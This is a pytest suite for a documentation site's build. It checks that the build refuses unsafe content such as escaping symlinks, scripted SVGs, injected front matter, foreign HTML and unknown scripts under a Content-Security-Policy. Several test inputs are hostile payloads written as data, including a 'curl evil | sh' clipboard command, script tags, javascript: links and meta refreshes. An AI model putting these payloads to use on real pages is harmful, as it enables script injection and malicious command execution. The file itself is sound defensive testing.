"""What the build refuses, with a line that says so: attacks on the site, and mistakes."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import tomllib
from collections import Counter
from collections.abc import Callable
from typing import Final

import pytest
import yaml

from publish import advisories, changes, policy
from publish.allowed import foreign
from publish.fill import FILLS, broken_lines, check, fill
from publish.finish import foot
from publish.machine.examples import copies, described
from publish.policy import with_policy
from publish.project import BrokenPage, Project
from publish.sources import check_sources
from tests.harness.blocks import ROOT
from tests.harness.shared import CODE
from tests.publish.conftest import write
from tests.publish.tiny import ADVISORIES

SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg"><title>T</title></svg>'
LINK: Final = ": a link, and what it leads to would be published; put the file itself there"
KIND: Final = ": no file of this kind belongs here; move it, or list its kind in publish/sources.py"
UTF8: Final = "not UTF-8; save the file as UTF-8"
TITLE: Final = ':2: the title is words on one line, without < > & "'
NEITHER: Final = ":1: neither --- nor a heading; begin with one of them"
TO: Final = "-> "
"""What begins a content that is no content, but where a link leads to."""
KINDS: Final = (
    *("docs/page.html", "docs/assets/page.html", "docs/site.js", "docs/security/site.css"),
    *("docs/assets/keys.json", "docs/drawing.SVG", "docs/page.markdown", "docs/key"),
    *("docs/__pycache__/a.pyc", "snippets/a.pyc", "snippets/a.py~", "snippets/page.md"),
    *("overrides/site.js", "overrides/notes.txt"),
)
SOURCES: Final[list[tuple[str, str | bytes, str]]] = [
    *((name, f"{TO}../secret.md", LINK) for name in ("docs/a.md", "snippets/a.py", "docs/.a")),
    ("docs/b.md", f"{TO}../gone", LINK),
    *((name, "x", KIND) for name in KINDS),
    ("docs/a.svg", SVG.replace("</svg>", "<script/></svg>"), ": this SVG has <script>; remove it"),
    ("docs/a.svg", SVG.replace("<svg", "<svg onload='x()'"), ": this SVG has an event handler"),
    ("docs/a.svg", SVG.replace("</title>", ""), ": this SVG is not well-formed"),
    ("docs/a.svg", f'<?xml-stylesheet href="https://a/a.css"?>{SVG}', ": this SVG has <?; remove"),
    ("docs/a.svg", SVG.encode("utf-16"), f":1: {UTF8}"),
    ("docs/.old/page.md", "# x\n", ": a hidden page; rename or remove it"),
]
HEADS: Final[list[tuple[str, str | bytes, str]]] = [
    ("docs/x.md", "---\ntitle: x\nbad: [\n---\n# x\n", ":3: front matter that is no YAML; mend it"),
    ("docs/x.md", "---\nauthor: x\n---\n# x\n", ":2: front matter names what nobody knows; known"),
    ("docs/x.md", b"# x\n\n\xff\n", f":3: {UTF8}"),
    ("docs/x.md", '---\ntitle: "x\\x3cscript\\x3ego()"\n---\n# x\n', TITLE),
    (
        "docs/x.md",
        "---\ndescription: '0;url=https://evil\" http-equiv=\"refresh'\n---\n# x\n",
        TITLE.replace("title", "description"),
    ),
    *(
        ("docs/x.md", f"{text}title: <b>\n---\n# x\n", NEITHER)
        for text in ("", "--- \n", "\n---\n")
    ),
    ("docs/x.md", b"\xef\xbb\xbf---\ntitle: <b>\n---\n# x\n", NEITHER),
]
CHANGED: Final[list[tuple[str, str | bytes, str]]] = [
    (changes.FILE, b"one\ntw\x08o\n", ":2: the control character U+0008; remove it"),
    (changes.FILE, b"one\r\ntwo\rthree\n", ":2: the control character U+000D; remove it"),
    (changes.FILE, b"\n\n\xc2\x85", ":3: the control character U+0085; remove it"),
    (changes.FILE, b"one\n\xff", f":2: {UTF8}"),
    (changes.FILE, "## 1.0.0 - 2030-13-01\n", ": month must be in 1..12; correct the day"),
    (changes.FILE, f"{TO}secret.md", LINK),
]
EXAMPLES: Final[list[tuple[str, str | bytes, str]]] = [
    ("snippets/a.py", "b = (\n", ":1: this is no Python; correct it"),
    ("snippets/a.py", b"# \xff\n", f":1: {UTF8}"),
]
CVE: Final = "CVE-2030-12345"
ABOUT: Final[list[tuple[str, str | bytes, str]]] = [
    (advisories.FILE, ADVISORIES.replace(old, new), f": {said}")
    for old, new, said in [
        ("SP23", "SP99", f"{CVE} names SP99, which is no id that is known"),
        (CVE, "CVE-1", "CVE-1 names CVE-1, which is no id that is known"),
        ("security/seal.md", "no.md", f"{CVE} names the page no.md, which does not exist"),
        ('"models"', '"other"', f"{CVE} names the group other, and there are "),
        ('date = "2030-02"', 'day = "2030-02"', "not as it explains itself (Advisory.__init__() "),
        ('fixed = "1.1"\n', "", "not as it explains itself (Advisory.__init__() missing 1"),
        (f'"{CVE}"', "5", "not as it explains itself ("),
        ('"1.1"', "1.1.1", "not as it explains itself (Expected newline"),
        ('["SP23"]', "[23]", f"{CVE} names 23, which is no id that is known"),
        ('"1.1"', '"1\\n1"', f"{CVE} has a field that is not one line of text"),
        *(
            ('"2030-02"', f'"{day}"', f"{CVE} has the date {day}, which is no day and no ")
            for day in ("soon", "2030", "2030-13", "2030-02-30", "2030-W01", "20300201")
        ),
        ("[[advisory]]", "[advisory]", "not as it explains itself ('str' object has no"),
        ("[[advisory]]", "[[advisry]]", "not only [[advisory]] tables; remove the rest"),
        ("[[advisory]]", f"{ADVISORIES}\n[[advisory]]", f"{CVE} stands twice; correct it"),
    ]
]
LOOKS: Final[dict[Callable[[Project], object], list[tuple[str, str | bytes, str]]]] = {
    lambda project: check_sources(project.root): SOURCES,
    lambda project: project.pages: HEADS,
    changes.versions: CHANGED,
    described: EXAMPLES,
    advisories.read: ABOUT,
}
"""Each look that the build takes: a file, what is in it, and what is said about it."""


@pytest.mark.parametrize(
    ("look", "name", "content", "said"), [(k, *row) for k, rows in LOOKS.items() for row in rows]
)
def test_a_file_that_may_not_be_published_is_refused(
    fake: Project, look: Callable[[Project], object], name: str, content: str | bytes, said: str
) -> None:
    write(fake.root, "secret.md")
    (fake.root / name).unlink(missing_ok=True)
    if isinstance(content, str) and content.startswith(TO):
        (fake.root / name).symlink_to(content.removeprefix(TO))
    else:
        write(fake.root, name, content)
    with pytest.raises(BrokenPage) as caught:
        look(fake)
    assert str(caught.value).startswith(f"{name}{said}")


def test_odd_files_are_refused_each_on_its_line(fake: Project) -> None:
    """Reading a pipe would wait for ever."""
    os.mkfifo(fake.docs / "wait.md")
    write(fake.root, "docs/a\nb.md")
    (fake.root / os.fsdecode(b"docs/\xff.md")).write_text("x")
    with pytest.raises(BrokenPage) as caught:
        check_sources(fake.root)
    assert sorted(str(caught.value).split("\n")) == [
        "docs/\\udcff.md: a name with letters that cannot be shown; rename it",
        "docs/a\\nb.md: a name with letters that cannot be shown; rename it",
        "docs/wait.md: neither a file nor a folder; remove it",
    ]


def test_what_the_tools_of_a_developer_leave_is_no_matter_and_not_copied(fake: Project) -> None:
    before = copies(fake)
    for name in ("docs/.DS_Store", "docs/.index.md.swp", "overrides/.DS_Store", "snippets/.a.py"):
        write(fake.root, name)
    write(fake.root, "snippets/__pycache__/a.cpython-311.pyc")
    check_sources(fake.root)
    (fake.root / "snippets/leak.conf").symlink_to(fake.root / "CHANGELOG.md")
    assert copies(fake) == before


BROKEN: Final = {
    "See SP99.": "3: there is no rule SP99; see src/safepoint/rules.toml",
    "<!-- fill nothing -->": "3: nothing fills in 'nothing'; known: ",
    '```python\n--8<-- "gone.py"\n```': "4: ",
    "```python\n1": "3: this fence is never closed; add ``` at ",
    "```klingon\nqapla\n```": "3: ",
}


def test_a_line_that_would_not_be_built_as_it_was_meant_is_refused(real: Project) -> None:
    for text, said in BROKEN.items():
        [problem] = broken_lines("page.md", f"# Page\n\n{text}\n", real)
        assert problem.startswith(f"docs/page.md:{said}")


def test_the_build_ends_without_a_traceback(fake: Project) -> None:
    """Links that lead nowhere are what MkDocs itself refuses, by the settings of this site."""
    links = "[x](gone.md), [x](index.md#gone), ![x](gone.svg), [x](/b/), [x](javascript&#58;go)"
    write(fake.root, "docs/a.md", f"# Page\n\n{links}\n")
    write(fake.root, "docs/index.md", "# Home\n")
    real = Project().settings
    settings = {
        "site_name": "x",
        "theme": {"name": "material"},
        "hooks": [str(ROOT / "publish/hooks.py")],
        "plugins": [],
        "validation": real["validation"],
        "nav": [{name: f"{name}.md"} for name in ("index", "a")],
        "exclude_docs": "reference/\nsecurity/\nladder.md\n",
    }
    write(fake.root, "mkdocs.yml", yaml.safe_dump(settings))
    command = [sys.executable, "-m", "mkdocs", "build", "--strict"]
    done = subprocess.run(command, cwd=fake.root, capture_output=True, text=True, check=False)
    assert real["strict"] is True
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    for said in (
        "'a.md' contains a link 'gone.md', but the target is not found",
        "'a.md' contains a link 'index.md#gone', but the doc 'index.md' does not",
        "'a.md' contains a link 'gone.svg', but the target is not found",
        "'a.md' contains an absolute link '/b/'",
        "docs/a.md: a link to 'javascript:go'; link to http, https or mailto",
    ):
        assert said in done.stderr


def test_what_is_filled_in_may_not_hold_what_a_page_may_not(
    real: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It comes from other files: the changelog, the evidence, tables."""
    for text in (
        "- <script>alert(1)</script>",
        "<!--><pre>hidden = 1</pre><!-- x -->",
        '<meta http-equiv="refresh" content="0">',
        "```python\n1\n```",
    ):
        monkeypatch.setattr("publish.fill.FILLS", {"changes": lambda _, text=text: text})
        with pytest.raises(BrokenPage, match=r"^docs/\(filled in by changes\)"):
            fill("<!-- fill changes -->", real)


def test_every_page_of_this_site_is_whole_and_every_fill_writes_something(real: Project) -> None:
    check(real)
    text = "\n".join(page.text for page in real.pages.values())
    for name in FILLS:
        assert f"<!-- fill {name} -->\n" in text
        filled = fill(f"# x\n\n<!-- fill {name} -->\n\nThe end", real)
        assert len(filled) > 20, name
        assert "<!-- fill" not in filled


FOREIGN: Final = {
    '<a data-clipboard-text="curl evil | sh">': "the attribute 'data-clipboard-text' on a <a>",
    '<p onclick="go()">x</p>': "the attribute 'onclick' on a <p>; remove it",
    '<p style="display: none">x</p>': "the attribute 'style' on a <p>; remove it",
    '<div hidden="">x</div>': "the attribute 'hidden' on a <div>; remove it",
    '<details class="proof proof--ran">': "the class 'proof', which the build gives; choose",
    '<p class="x" class="md-clipboard">': "the class 'md-clipboard', which the build gives",
    '<div id="__config">{}</div>': "the id '__config', which is the theme's; choose another",
    '<a href="javascript:go()">': "a link to 'javascript:go()'; link to http, https or mailto",
    '<a href=" java&#10;script:go()">': "a link to ' java\\nscript:go()'; link to http",
    '<a href="//evil.example">': "a link to '//evil.example'; link to http, https or mailto",
    '<img src="https://evil/x.png">': "a link to 'https://evil/x.png'; link",
    '<ul><li class="doc-signature"><ul><li><pre>x</pre></li></ul></li></ul>': (
        "a class that could hide code from the census; remove it"
    ),
    '<iframe src="x"></iframe>': "a foreign <iframe>; remove what made it",
    '<meta name="x" http-equiv="refresh">': "a foreign <meta>; remove what made it",
}


@pytest.mark.parametrize("html", FOREIGN)
def test_html_that_only_the_build_or_the_theme_may_write_is_refused(html: str) -> None:
    whole = f'<body><form></form><article class="md-content__inner md-typeset">{html}</article>'
    assert any(said.startswith(FOREIGN[html]) for said in foreign(whole))


HEAD: Final = (
    '<meta charset="utf-8"><script src="a.js"></script><script>go(new URL(".",location))</script>'
)
UNKNOWN: Final = "x: a script that the theme did not have before"


def test_the_policy_names_the_themes_scripts_alone_wherever_the_page_is(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    known = hashlib.sha256(b'go(new URL("",location))').hexdigest()
    monkeypatch.setattr(policy, "THEME", frozenset({known}))
    data = '<script id="c" type="application/json">{"a": 1}</script>'
    for root in (".", "../..", "/docs/a-b/"):
        html = with_policy((HEAD + data).replace('"."', f'"{root}"'), "x")
        assert html.index("Content-Security-Policy") < html.index("<script")
        assert html.count("'sha256-") == 1
        assert "default-src 'none'; script-src 'self' 'sha256-" in html
        assert "; style-src 'self'; img-src 'self' data:; connect-src 'self'; worker-src " in html
        assert "base-uri 'none'; form-action 'none'" in html
    for html, said in {
        HEAD.replace("go(", "evil("): f"{UNKNOWN}: 'evil(",
        HEAD.replace('"."', '"https://evil"'): UNKNOWN,
        HEAD.replace('"."', '"//evil.example/"'): UNKNOWN,
        HEAD.replace('"."', '""+evil()+""'): UNKNOWN,
        f"{HEAD}<article><SCRIPT>x</SCRIPT></article>": "x: a script in the text of the page; ",
        "<p>words</p>": 'x: <meta charset="utf-8"> is missing',
    }.items():
        with pytest.raises(BrokenPage) as caught:
            with_policy(html, "x")
        assert str(caught.value).startswith(said)


def test_an_address_of_the_code_that_nobody_could_open_is_refused(
    real: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """And so is a site that is published without one: its readers could not install anything."""
    for address in ("javascript:go()", "http://x/", 'https://x/"onclick="go()'):
        monkeypatch.setenv("REPO_URL", address)
        with pytest.raises(BrokenPage, match="REPO_URL is not an https:// address; correct it, "):
            foot(real.pages["guide.md"], real, Counter())
    monkeypatch.setenv("REPO_URL", CODE)
    said = foot(real.pages["guide.md"], real, Counter())
    assert said.endswith('<a href="https://code.example/team/safepoint">The code</a></p>')
    monkeypatch.delenv("REPO_URL")
    check(real)  # for oneself, as `make serve` does
    monkeypatch.setenv("SITE_URL", "https://docs.example/")
    with pytest.raises(BrokenPage, match=r"^SITE_URL is set, and not .*; set REPO_URL, too$"):
        check(real)


def test_a_page_says_how_to_install_from_a_copy_and_from_the_address_that_the_build_knows(
    real: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Never by the name alone: what an index has of that name is somebody else's."""
    with (ROOT / "pyproject.toml").open("rb") as file:
        extras = tomllib.load(file)["project"]["optional-dependencies"]
    known = {"index.md": "", "langgraph.md": "langgraph", "agent-framework.md": "agent-framework"}
    for page, extra in {**known, "guide.md": ""}.items():
        assert not extra or extra in extras
        shown = f"[{extra}]" if extra else ""
        copied = f"pip install '.{shown}'" if extra else "pip install ."
        monkeypatch.delenv("REPO_URL", raising=False)
        said = fill(real.pages[page].text, real)
        assert copied in said
        assert "git+" not in said
        monkeypatch.setenv("REPO_URL", CODE)
        said = fill(real.pages[page].text, real)
        assert copied in said
        assert f"pip install 'safepoint{shown} @ git+{CODE}'" in said
